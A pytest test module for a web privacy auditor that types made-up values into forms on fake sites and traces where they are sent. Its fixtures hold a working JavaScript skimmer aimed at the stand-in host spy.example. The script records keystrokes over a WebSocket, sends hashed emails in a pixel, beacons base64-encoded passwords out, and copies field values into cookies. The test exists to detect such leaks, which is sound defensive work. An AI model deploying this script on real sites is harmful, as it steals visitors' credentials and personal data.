"""Values are typed into forms as a visitor would, never submitted, and reach whoever listens."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass

import pytest
import pytest_asyncio
from starlette.requests import Request
from starlette.responses import Response
from starlette.websockets import WebSocket

from auditor.demo.vendors import VENDORS
from auditor.demo.web import Site
from auditor.model.records import PageViewRecord
from auditor.web.traces import Trace, Traces
from spiders.browser import launch
from spiders.cdp import CdpError, Connection
from spiders.collectors.typing import TypingCollector, made_up
from spiders.options import BrowserOptions
from spiders.targets import Target, Targets
from spiders.view import View
from tests.spiders.conftest import fake_web, options_for
from tests.spiders.kinds_web import GIF, script, typed

pytestmark = pytest.mark.asyncio(loop_scope="module")

SHOP, SPY = "https://shop.example", "https://spy.example"
FORMS = f"""<!doctype html><link rel=icon href=data:,><title>Forms</title>
<form role=search action=/search><input name=q></form>
<form action=/join method=post><label>Your name <input name=who></label><input name=mail type=email>
<input name=pass type=password><textarea name=words></textarea><input type=hidden name=token>
<input name=promotion_code placeholder='Promotion code'><label><input type=checkbox name=promo> Promotions</label>
<input name=trap style='display:none'><input name=known value=kept><input name=code maxlength=4></form>
<form action=/redeem><input name=gift placeholder='Gift card code'></form>
<form action=/pay><input name=holder autocomplete=cc-name><input name=number placeholder='Card number'></form>
<script src={SPY}/spy.js></script>"""
SPYING = f"""
const socket = new WebSocket('wss://spy.example/keys');
const opened = new Promise((open) => socket.onopen = open);
new Image().src = '{SPY}/ready';
const held = [];
addEventListener('keydown', (event) => held.push(event.key));
onbeforeunload = (event) => event.preventDefault();
addEventListener('input', ({{target}}) => {{
  document.cookie = `draft_${{target.name}}=${{encodeURIComponent(target.value)}}`;
}});
addEventListener('change', (event) => {{
  if (event.target.name !== 'mail') return;
  opened.then(() => socket.send(held.join('')));
  crypto.subtle.digest('SHA-256', new TextEncoder().encode(event.target.value.toLowerCase())).then((digest) => {{
    const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
    new Image().src = `{SPY}/p.gif?em=${{hex}}`;
  }});
}});
addEventListener('pagehide', () => navigator.sendBeacon('{SPY}/bye',
  btoa(JSON.stringify([...document.querySelectorAll('textarea, [type=password]')].map((field) => field.value)))));
"""


listening = asyncio.Event()


async def keys(socket: WebSocket) -> None:
    await socket.accept()
    listening.set()
    async for _ in socket.iter_text():
        pass


async def ready(request: Request) -> Response:
    """Keeps the page loading until its socket is open: on a slow machine values would be typed before."""
    await listening.wait()
    return Response(status_code=204)


MASKED = """<!doctype html><link rel=icon href=data:,><form><input name=contact type=email></form>
<script src=https://replaynook.example/rec.js></script>"""

FRAMED = f"""<!doctype html><link rel=icon href=data:,><iframe src=/own></iframe>
<iframe src=https://letters.example/sign width=300 height=200></iframe>
<iframe src=/own style="width:1px;height:1px"></iframe>
<form action=/pay><input name=buyer type=email><input name=cvc></form><div id=host></div><script>
const shadow = document.getElementById('host').attachShadow({{mode: 'open'}});
shadow.innerHTML = '<form><input name=shaded type=email></form>';
addEventListener('message', (event) => navigator.sendBeacon('{SPY}/bye', event.data));
</script>"""
OWN = "<!doctype html><form><input name=inner type=email><input name=secret type=password></form>"
SIGN = """<!doctype html><form><input name=theirs type=email><textarea name=chat></textarea></form>
<script>document.querySelector('input').onchange = (event) => parent.postMessage(event.target.value, '*')</script>"""

SITES = VENDORS | {
    "shop.example": Site(
        routes={
            "/framed": FRAMED,
            "/own": OWN,
            "/": FORMS,
            "/again": FORMS,
            "/masked": MASKED,
            "/join": "joined",
            "/pay": "paid",
            "/search": "found",
        }
    ),
    "letters.example": Site(routes={"/sign": SIGN}),
    "spy.example": Site(
        routes={
            "/spy.js": script(SPYING),
            "/p.gif": typed(GIF, "image/gif"),
            "/bye": typed("", "text/plain"),
            "/ready": ready,
        },
        sockets={"/keys": keys},
    ),
}


@dataclass(frozen=True)
class Seen:
    """Four pages of one visit, and what the server was asked for on the first two."""

    first: PageViewRecord
    again: PageViewRecord
    masked: PageViewRecord
    framed: PageViewRecord
    asked: set[str]


@pytest_asyncio.fixture(loop_scope="module", scope="module")
async def seen() -> AsyncIterator[Seen]:
    with fake_web(SITES) as web:
        async with launch(options_for(web)) as browser:
            visit = await browser.new_visit()
            first = await visit.load(f"{SHOP}/", ordinal=1, timeout=15)
            again = await visit.load(f"{SHOP}/again", ordinal=2, timeout=15)
            asked = {entry.path.partition("?")[0] for entry in web.log}
            masked = await visit.load(f"{SHOP}/masked", ordinal=3, timeout=15)
            yield Seen(first, again, masked, await visit.load(f"{SHOP}/framed", ordinal=4, timeout=15), asked)


async def test_each_kind_of_field_gets_a_value_of_its_own(seen: Seen) -> None:
    rows = seen.first.typed_values
    assert rows is not None
    assert {row.field: row.kind for row in rows} == {
        "who": "name",
        "mail": "email",
        "pass": "password",
        "words": "text",
    }
    assert len({row.value for row in rows}) == 4


async def test_nothing_is_submitted(seen: Seen) -> None:
    assert seen.asked == {
        "/",
        "/again",
        "/spy.js",
        "/p.gif",
        "/bye",
        "/keys",
        "/ready",
    }


async def test_a_form_is_typed_into_once_a_visit(seen: Seen) -> None:
    assert seen.again.typed_values == ()


async def test_what_was_typed_is_found_where_it_went(seen: Seen) -> None:
    record = seen.first
    traces = Traces({row.kind: row.value for row in record.typed_values or ()})
    requests = {row.url.partition("?")[0]: traces.find(f"{row.url} {row.body}") for row in record.requests or ()}
    assert {url: found for url, found in requests.items() if found} == {
        f"{SPY}/p.gif": {Trace("email", ("sha256",))},
        f"{SPY}/bye": {Trace("password", ("base64",)), Trace("text", ("base64",))},
    }
    assert {trace for row in record.messages or () for trace in traces.find(row.payload)} == {
        Trace("name", ()),
        Trace("email", ()),
    }
    final = {row.name: traces.find(row.value) for row in record.cookies or () if row.final}
    assert final == {
        "draft_who": {Trace("name", ())},
        "draft_mail": {Trace("email", ())},
        "draft_pass": {Trace("password", ())},
        "draft_words": {Trace("text", ())},
    }


async def test_a_recorder_that_masks_what_is_typed_sends_none_of_it(seen: Seen) -> None:
    traces = Traces({row.kind: row.value for row in seen.masked.typed_values or ()})
    sent = [row.payload for row in seen.masked.messages or () if row.sent]
    assert any('"key"' in payload for payload in sent), "it does watch the keys"
    assert {trace for payload in sent for trace in traces.find(payload)} == set()


async def test_forms_in_frames_and_shadows_are_typed_into(seen: Seen) -> None:
    """Of another company's frame only what asks who one is: what is typed into a chat is shown to somebody."""
    rows = seen.framed.typed_values or ()
    assert {(row.field, row.kind, row.frame_url) for row in rows} == {
        ("buyer", "email", f"{SHOP}/framed"),
        ("shaded", "email", f"{SHOP}/framed"),
        ("inner", "email", f"{SHOP}/own"),
        ("secret", "password", f"{SHOP}/own"),
        ("theirs", "email", "https://letters.example/sign"),
    }
    (theirs,) = [row.value for row in rows if row.field == "theirs"]
    assert any(request.body == theirs for request in seen.framed.requests or ())


async def test_switched_off_is_not_observed() -> None:
    page = Target(session="s", id="t", type="page", url="", context="c")
    view = View(
        url=SHOP,
        ordinal=1,
        connection=Connection(lambda *_: None, frozenset()),
        targets=Targets(),
        page=page,
        options=BrowserOptions(typing=False),
        jar_before=[],
    )
    collector = TypingCollector(view)
    await collector.type(set(), 0)
    with pytest.raises(CdpError):
        collector.rows()


async def test_no_two_made_up_values_are_the_same() -> None:
    values = [value for _ in range(50) for value in made_up().values()]
    assert len(set(values)) == len(values)
